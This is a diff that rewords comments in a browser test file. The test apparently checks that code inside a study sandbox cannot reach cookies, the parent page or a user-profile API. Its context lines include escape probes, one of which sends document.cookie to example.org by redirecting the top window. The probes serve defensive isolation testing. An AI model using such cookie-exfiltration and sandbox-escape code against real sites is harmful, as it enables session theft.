@@ -65,7 +65,8 @@ describe('study that runs here', () => {
 
     await page.reload();
     await begin(page);
-    // The third word follows: the order is the same, and answered words are not repeated.
+    // The run goes on with the third word: the order is the same, and answered words are not
+    // repeated.
     while (seen.length < 4) seen.push(await answer(page));
     expect([...seen].sort()).toEqual(['black', 'blue', 'green', 'red']);
     await seeHeading(page, 'All of your answers have arrived');
@@ -179,7 +180,8 @@ const tries = {
   cookie: () => document.cookie,
   parent: () => parent.document.cookie,
   top: () => { top.location = 'https://example.org/?' + document.cookie; return 'left'; },
-  // In a worker that is started from a data address, whose requests none of our scripts changes.
+  // Fetches in a worker that is started from a data address, since none of our scripts changes the
+  // requests of such a worker.
   call: () => new Promise((done, no) => {
     const address = JSON.stringify(new URL('/api/users/profile/', location.href).href);
     const code = 'fetch(' + address + ').then((a) => postMessage(a.status), () => postMessage(0))';
@@ -187,7 +189,7 @@ const tries = {
     worker.onmessage = ({ data }) => data === 0 ? no(new Error('no answer')) : done(data);
     worker.onerror = no;
   }),
-  // From a page's own script, it is a file of the study.
+  // A request of the page itself is taken for a file of the study.
   file: async () => (await fetch('/api/users/profile/')).status,
   elsewhere: async () => (await fetch('https://example.org/')).status,
   socket: () => new Promise((done, no) => {
